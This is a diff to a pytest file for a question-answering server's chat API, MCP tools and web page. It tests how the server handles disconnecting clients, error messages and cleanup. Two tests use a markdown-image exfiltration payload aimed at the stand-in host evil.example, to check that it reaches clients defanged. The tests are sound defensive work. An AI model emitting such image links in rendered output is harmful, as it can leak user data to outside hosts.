@@ -9,10 +9,11 @@ from __future__ import annotations
 import contextlib
 import json
 import random
+import socket
 import threading
 from collections.abc import Iterator
 from pathlib import Path
-from typing import Any
+from typing import Any, NamedTuple
 
 import httpx
 import pytest
@@ -88,46 +89,70 @@ def test_parse_messages_reads_only_the_recent_turns() -> None:
 
 # -- 2. work for clients that have gone -----------------------------------------------------------
 
+FRESH = "Who called for UN visits?"
+"""The one question the gated answerer answers at once; every other waits at its gate."""
+
 
 class GatedAnswerer:
-    """An answerer (``rag.protocols.Answerer``) that waits for a gate, counting the questions it reads."""
+    """An answerer (``rag.protocols.Answerer``) that holds every question but ``FRESH`` at a gate,
+    counting the questions it began and those it went on to answer."""
 
     def __init__(self) -> None:
         self.gate = threading.Event()
         self.read: list[str] = []
+        self.passed: list[str] = []
         self.lock = threading.Lock()
         self.waiting = threading.Semaphore(0)
+        self.error: Exception | None = None
+        """When set, every question fails with it (an answerer that breaks)."""
 
     def __call__(self, question: str, hits: Any, settings: Any, pages: Any = None) -> Any:
         from rag.answer.extractive import answer
 
         with self.lock:
             self.read.append(question)
-        self.waiting.release()
-        self.gate.wait(60)
+        if self.error is not None:
+            raise self.error
+        if question != FRESH:
+            self.waiting.release()
+            self.gate.wait(120)
+            with self.lock:
+                self.passed.append(question)
         return answer(question, hits, settings, pages)
 
 
+class GatedAPI(NamedTuple):
+    url: str
+    gated: GatedAnswerer
+    slots: Any
+    """The router's ``ReaderSlots``."""
+    server: Any
+    """The ``uvicorn.Server``."""
+
+
 @pytest.fixture()
-def gated_api(seed_index: Index) -> Iterator[tuple[str, GatedAnswerer]]:
+def gated_api(seed_index: Index) -> Iterator[GatedAPI]:
+    """The ``/v1`` API on a real uvicorn server in this process, its answers read by a ``GatedAnswerer``."""
     import uvicorn
     from fastapi import FastAPI
 
     from rag.collections import Collections
+    from rag.serve.slots import ReaderSlots
 
     library = Collections(seed_index.folder)
     gated = GatedAnswerer()
     index = library.get("")
     index.answerer = gated
+    slots = ReaderSlots()
     app = FastAPI()
-    app.include_router(chat_router(library))
+    app.include_router(chat_router(library, slots=slots))
     port = free_port()
     server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=port, log_level="warning"))
     thread = threading.Thread(target=server.run, daemon=True)
     thread.start()
     try:
         wait_until(lambda: server.started, "the API server to start")
-        yield f"http://127.0.0.1:{port}/v1", gated
+        yield GatedAPI(f"http://127.0.0.1:{port}/v1", gated, slots, server)
     finally:
         gated.gate.set()
         server.should_exit = True
@@ -138,13 +163,35 @@ def _chat_body(question: str, stream: bool) -> dict[str, Any]:
     return {"model": "default", "stream": stream, "messages": [{"role": "user", "content": question}]}
 
 
-def test_streams_dropped_after_their_first_chunk_are_never_answered(gated_api: tuple[str, GatedAnswerer]) -> None:
+def _impatient_clients(url: str, questions: list[str]) -> None:
+    """The openai client with a tiny timeout asks each question, streaming every other, and gives up."""
+    from openai import APITimeoutError, OpenAI
+
+    impatient = OpenAI(base_url=url, api_key="unused", timeout=0.3, max_retries=0)
+    for n, question in enumerate(questions):
+        messages: Any = [{"role": "user", "content": question}]
+        with pytest.raises((APITimeoutError, httpx.TimeoutException)):
+            if n % 2:
+                # The reply's first chunk comes at once; the client gives up waiting for the next.
+                with impatient.chat.completions.create(model="default", messages=messages, stream=True) as chunks:
+                    for _ in chunks:
+                        pass
+            else:
+                impatient.chat.completions.create(model="default", messages=messages)
+
+
+def _fresh_question_is_answered(client: httpx.Client, url: str) -> None:
+    reply = client.post(f"{url}/chat/completions", json=_chat_body(FRESH, False))
+    assert reply.status_code == 200 and "Maryam Rajavi" in reply.json()["choices"][0]["message"]["content"]
+
+
+def test_clients_that_leave_while_waiting_are_never_answered(gated_api: GatedAPI) -> None:
     # Before: 48 streams dropped after their first chunk kept /v1 answering them for about 85 s.
-    url, gated = gated_api
+    url, gated, slots, _ = gated_api
     with httpx.Client(timeout=60) as client:
         # Four questions take the four reader slots and wait at the gate.
         holders = [threading.Thread(target=client.post, args=(f"{url}/chat/completions",),
-                                    kwargs={"json": _chat_body(f"Who called for UN visits? {n}", False)})
+                                    kwargs={"json": _chat_body(f"{FRESH} {n}", False)})
                    for n in range(4)]
         for t in holders:
             t.start()
@@ -155,18 +202,124 @@ def test_streams_dropped_after_their_first_chunk_are_never_answered(gated_api: t
             with client.stream("POST", f"{url}/chat/completions",
                                json=_chat_body(f"dropped {n} who called for visits?", True)) as reply:
                 assert next(reply.iter_lines()).startswith("data: ")
+        # Twelve openai clients (half of them streaming) give up after 0.3 s.
+        _impatient_clients(url, [f"gone {n} who called for visits?" for n in range(12)])
+        wait_until(lambda: slots.dropped == 24 and slots.waiting == 0, "the server to drop the 24 clients that left")
+        # The four slots are still held, and nothing waits: the next question is the first in line.
         gated.gate.set()
         for t in holders:
             t.join(60)
-        reply = client.post(f"{url}/chat/completions", json=_chat_body("Who called for UN visits?", False))
-    assert reply.status_code == 200 and "Maryam Rajavi" in reply.json()["choices"][0]["message"]["content"]
-    assert not [q for q in gated.read if q.startswith("dropped")], gated.read
+        _fresh_question_is_answered(client, url)
+    assert not [q for q in gated.read if q.startswith(("dropped", "gone"))], gated.read
+    assert slots.started == 5 and slots.abandoned == 0
 
 
-def test_a_full_queue_is_told_to_retry(gated_api: tuple[str, GatedAnswerer]) -> None:
+def _leave_once_answering(url: str, gated: GatedAnswerer, question: str) -> None:
+    """A client that sends ``question`` (not streamed) and closes its connection once the answer began."""
+    body = json.dumps(_chat_body(question, False)).encode()
+    address = httpx.URL(url)
+    with socket.create_connection((address.host, address.port or 80)) as raw:
+        raw.sendall(f"POST /v1/chat/completions HTTP/1.1\r\nHost: {address.host}:{address.port}\r\n"
+                    f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body)
+        assert gated.waiting.acquire(timeout=60), "the answer to begin"
+
+
+def test_clients_that_leave_while_answered_give_their_slot_back_at_once(
+        gated_api: GatedAPI) -> None:
+    url, gated, slots, _ = gated_api
+    with httpx.Client(timeout=60) as client:
+        # Two streams and two plain requests leave while their answers are being read: every slot was theirs.
+        for n in range(2):
+            with client.stream("POST", f"{url}/chat/completions",
+                               json=_chat_body(f"left {n} who called for visits?", True)) as reply:
+                lines = reply.iter_lines()   # kept: a dropped iterator closes the connection at once
+                assert next(lines).startswith("data: ")
+                assert gated.waiting.acquire(timeout=60), "the answer to begin"
+            _leave_once_answering(url, gated, f"left {n + 2} who called for visits?")
+        wait_until(lambda: slots.abandoned == 4, "the server to see the four clients leave")
+        # Their four answers still wait at the gate, yet a fresh question gets a slot and its answer.
+        _fresh_question_is_answered(client, url)
+        assert gated.passed == [] and slots.orphans == 4
+        gated.gate.set()
+        wait_until(lambda: slots.orphans == 0, "the abandoned answers to end")
+    assert sorted(gated.passed) == [f"left {n} who called for visits?" for n in range(4)]
+    assert slots.started == 5 and slots.dropped == 0
+
+
+def test_a_client_gone_while_sending_its_request_is_no_server_error(gated_api: GatedAPI,
+                                                                   caplog: pytest.LogCaptureFixture) -> None:
+    # Before: each such client put an "Exception in ASGI application" traceback in the log.
+    address = httpx.URL(gated_api.url)
+    for _ in range(3):
+        with socket.create_connection((address.host, address.port or 80)) as raw:
+            raw.sendall(f"POST /v1/chat/completions HTTP/1.1\r\nHost: {address.host}:{address.port}\r\n"
+                        f"Content-Type: application/json\r\nContent-Length: 1000\r\n\r\n".encode() + b'{"model"')
+            wait_until(lambda: gated_api.server.server_state.tasks, "the request to reach the app")
+    wait_until(lambda: not gated_api.server.server_state.tasks, "the three requests to end")
+    assert not [r for r in caplog.records if r.levelname == "ERROR"], [r.getMessage() for r in caplog.records]
+    assert gated_api.slots.started == 0 and not gated_api.gated.read
+
+
+def test_a_client_gone_before_its_slot_never_starts_work() -> None:
+    import asyncio
+
+    from rag.errors import ClientGone
+    from rag.serve.slots import ReaderSlots
+
+    slots = ReaderSlots(1, queue=1)
+    work: list[str] = []
+
+    async def already_gone() -> None:
+        return None
+
+    async def ask() -> None:
+        with pytest.raises(ClientGone):
+            await slots.answer(already_gone, lambda: work.append("answered"))
+
+    asyncio.run(ask())
+    assert work == [] and slots.started == 0 and slots.dropped == 1
+
+
+def test_abandoned_answers_beside_the_slots_are_bounded() -> None:
+    import asyncio
+
+    from rag.errors import ClientGone
+    from rag.serve.slots import ReaderSlots
+
+    slots = ReaderSlots(1, queue=4)
+    began, finish = threading.Semaphore(0), threading.Event()
+
+    def work() -> str:   # an answer that takes until ``finish`` (an LLM at its timeout)
+        began.release()
+        finish.wait(60)
+        return "answered"
+
+    async def leaves_once_answering() -> None:
+        left = asyncio.Event()
+        asking = asyncio.ensure_future(slots.answer(left.wait, work))
+        assert await asyncio.to_thread(began.acquire, timeout=60), "the answer to begin"
+        left.set()
+        with pytest.raises(ClientGone):
+            await asking
+
+    async def scenario() -> None:
+        await leaves_once_answering()
+        assert slots.orphans == 1 and not slots.full      # its slot given back at once
+        await leaves_once_answering()
+        assert slots.orphans == 1 and slots.full          # one orphan per slot: this slot waits for its thread
+        finish.set()
+        while slots.full or slots.orphans:
+            await asyncio.sleep(0.01)
+        assert await slots.answer(asyncio.Event().wait, lambda: "fresh") == "fresh"
+
+    asyncio.run(asyncio.wait_for(scenario(), 120))
+    assert slots.abandoned == 2 and slots.started == 3 and slots.dropped == 0
+
+
+def test_a_full_queue_is_told_to_retry(gated_api: GatedAPI) -> None:
     from rag.serve.slots import QUEUE, READERS
 
-    url, gated = gated_api
+    url, gated, _, _ = gated_api
     replies: list[httpx.Response] = []
     with httpx.Client(timeout=60) as client:
         def post(n: int) -> None:
@@ -185,8 +338,8 @@ def test_a_full_queue_is_told_to_retry(gated_api: tuple[str, GatedAnswerer]) -> 
     assert sorted(r.status_code for r in replies) == [200] * (READERS + QUEUE) + [503] * 3
 
 
-def test_nested_and_oversized_json_are_400_and_413(gated_api: tuple[str, GatedAnswerer]) -> None:
-    url, gated = gated_api
+def test_nested_and_oversized_json_are_400_and_413(gated_api: GatedAPI) -> None:
+    url, gated, _, _ = gated_api
     gated.gate.set()
     nested = httpx.post(f"{url}/chat/completions", content=b"[" * 100_000 + b"]" * 100_000,
                         headers={"content-type": "application/json"}, timeout=60)
@@ -199,6 +352,22 @@ def test_nested_and_oversized_json_are_400_and_413(gated_api: tuple[str, GatedAn
     assert surrogate.status_code == 200 and "Maryam Rajavi" in surrogate.json()["choices"][0]["message"]["content"]
     too_long = httpx.post(f"{url}/chat/completions", json=_chat_body("why? " * 2000, False), timeout=60)
     assert too_long.status_code == 400 and "the limit is" in too_long.json()["error"]["message"]
+
+
+def test_an_unexpected_error_reaches_a_client_without_its_text(gated_api: GatedAPI) -> None:
+    # Before: raw exception text (paths, internals) reached /v1 clients.
+    url, gated, _, _ = gated_api
+    gated.gate.set()
+
+    gated.error = ValueError("secret detail /home/alice/private/notes.txt")
+    with httpx.Client(timeout=60) as client:
+        plain = client.post(f"{url}/chat/completions", json=_chat_body(FRESH, False))
+        streamed = client.post(f"{url}/chat/completions", json=_chat_body(FRESH, True))
+    assert plain.status_code == 500 and plain.json()["error"]["message"].startswith("internal error")
+    assert "secret" not in plain.text and "/home/alice" not in plain.text
+    events = [line for line in streamed.text.splitlines() if line.startswith("data: ")]
+    assert events[-1] == "data: [DONE]" and "internal error" in events[-2]
+    assert "secret" not in streamed.text and "/home/alice" not in streamed.text
 
 
 # -- 5, 9, 10, 11: the web server's origin, routes, logs and headers -----------------------------
@@ -365,9 +534,53 @@ def test_leftovers_of_a_killed_server_are_removed_at_the_next_start(tmp_path: Pa
                             env={**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2])})
     left = Path(killed.stdout.strip())
     assert left.is_dir() and (left / "half-upload").exists()
-    from rag.serve.servertemp import clean_leftovers
+    # The next server to start (a process of its own: the folder is set in its environment) removes it.
+    following = subprocess.run([sys.executable, "-c", code.replace("os.kill(os.getpid(), 9)", "pass"), str(tmp_path)],
+                               capture_output=True, text=True,
+                               env={**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2])})
+    assert following.returncode == 0 and not left.exists() and not left.with_suffix(".lock").exists()
+    assert list(left.parent.iterdir()) == []   # and its own folder went when it exited
 
-    assert clean_leftovers(left.parent) == [left] and not left.exists()
+
+def test_the_private_folder_goes_on_a_clean_exit_and_on_sigterm(tmp_path: Path, seed_index: Index) -> None:
+    import os
+    import signal
+    import subprocess
+    import sys
+
+    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2]), "HF_HUB_OFFLINE": "1",
+           "GRADIO_ANALYTICS_ENABLED": "False"}
+    code = ("import sys; from rag.serve.servertemp import use_private_folder; "
+            "f = use_private_folder(sys.argv[1]); (f / 'upload').write_bytes(b'x'); print(f)")
+    ended = subprocess.run([sys.executable, "-c", code, str(tmp_path)], capture_output=True, text=True, env=env)
+    assert ended.returncode == 0 and not Path(ended.stdout.strip()).exists()
+    # Before: a real `rag serve` sent SIGTERM died on the spot (-15) and left its folder until the next start.
+    index = copy_index(seed_index, tmp_path / "index")
+    port = free_port()
+    with open(tmp_path / "serve.log", "w") as log:
+        server = subprocess.Popen([sys.executable, "-m", "rag.serve.cli", "serve", "--index", str(index),
+                                   "--port", str(port)], cwd=tmp_path, stdout=log, stderr=subprocess.STDOUT, env=env)
+        try:
+            def answers() -> bool:
+                assert server.poll() is None, (tmp_path / "serve.log").read_text()
+                with contextlib.suppress(httpx.HTTPError):
+                    return httpx.get(f"http://127.0.0.1:{port}/", timeout=5).status_code == 200
+                return False
+
+            wait_until(answers, "rag serve to answer", timeout=240)
+            [private] = [p for p in (index / "cache" / "gradio").iterdir() if p.is_dir()]
+            stored = httpx.post(f"http://127.0.0.1:{port}/gradio_api/upload", timeout=30,
+                                files={"files": ("note.txt", b"mine", "text/plain")}).json()
+            assert Path(stored[0]).resolve().is_relative_to(private.resolve())
+            wait_until(lambda: "rag web chat on" in (tmp_path / "serve.log").read_text(), "the server's first line")
+            server.send_signal(signal.SIGTERM)
+            # 0 once serving; 130 ("interrupted", as Ctrl+C) in the instant before: both stop cleanly.
+            assert server.wait(60) in (0, 130), (tmp_path / "serve.log").read_text()
+        finally:
+            if server.poll() is None:
+                server.kill()
+                server.wait()
+    assert list((index / "cache" / "gradio").iterdir()) == []
 
 
 def test_a_markdown_image_in_a_document_reaches_v1_inert(page: dict[str, Any]) -> None:
@@ -379,6 +592,30 @@ def test_a_markdown_image_in_a_document_reaches_v1_inert(page: dict[str, Any]) -
     assert "![" not in text and "](http" not in text and "http://evil" not in text and "<img" not in text
     assert "http[:]//evil.example/track.png" in text, text
     assert any("![exfil](http://evil.example/track.png?d=1)" in c["text"] for c in body["citations"])
+
+
+def test_mcp_text_is_inert_and_a_long_question_is_a_tool_error(page: dict[str, Any]) -> None:
+    # The real MCP server, its tools called by the SDK's own client in this process.
+    pytest.importorskip("mcp")
+    import anyio
+    from mcp import Client
+
+    from rag.serve.mcp_server import build_server
+
+    async def calls() -> tuple[Any, Any, Any]:
+        async with Client(build_server(page["folder"])) as client:
+            answer = await client.call_tool("ask", {"question": "What is the badge photo of the archivist?"})
+            hits = await client.call_tool("search", {"question": "badge photo of the archivist", "k": 3})
+            too_long = await client.call_tool("ask", {"question": "why? " * 2000})
+            return answer, hits, too_long
+
+    answer, hits, too_long = anyio.run(calls)
+    reply, passages = answer.structured_content, hits.structured_content["result"]
+    shown = json.dumps([reply["answer"], [h["text"] for h in reply["hits"]], [h["text"] for h in passages]])
+    assert "vault" in shown.lower() and "http[:]//evil.example/track.png" in shown
+    assert "![" not in shown and "](http" not in shown and "http://evil" not in shown and "<img" not in shown
+    assert any("![exfil](http://evil.example/track.png?d=1)" in c["text"] for c in reply["citations"])
+    assert too_long.is_error and "the limit is 4,000" in too_long.content[0].text
 
 
 def test_inert_text_keeps_words_and_loses_images_links_and_tags() -> None:
@@ -546,6 +783,19 @@ def test_page_sessions_are_bounded_and_expire(page: dict[str, Any]) -> None:
         event = client.post("/gradio_api/call/ask", json={"data": ["why? " * 200_000, 3, None, "", None]})
         stream = client.get(f"/gradio_api/call/ask/{event.json()['event_id']}").text
     assert "event: error" in stream and "the limit is" in stream
+
+
+def test_a_thousand_long_turns_are_answered_through_v1_and_the_page(page: dict[str, Any]) -> None:
+    # Before: 1,000 turns of 100 words took 104 s to resolve, through /v1 and the page's API alike.
+    messages = [*long_conversation(1_000), {"role": "user", "content": "Who keeps the vault code?"}]
+    reply = httpx.post(f"{page['base']}/v1/chat/completions", timeout=300,
+                       json={"model": "default", "messages": messages})
+    assert reply.status_code == 200 and "Ingrid Halvorsen" in reply.json()["choices"][0]["message"]["content"]
+    with _login(page["base"]) as client:
+        event = client.post("/gradio_api/call/ask", json={"data": ["Who keeps the vault code?", 3, messages[:-1], "",
+                                                                   None]}, timeout=300)
+        stream = client.get(f"/gradio_api/call/ask/{event.json()['event_id']}", timeout=300).text
+    assert "event: complete" in stream and "Ingrid Halvorsen" in stream
 
 
 def test_the_page_config_and_library_name_no_absolute_path(page: dict[str, Any]) -> None:
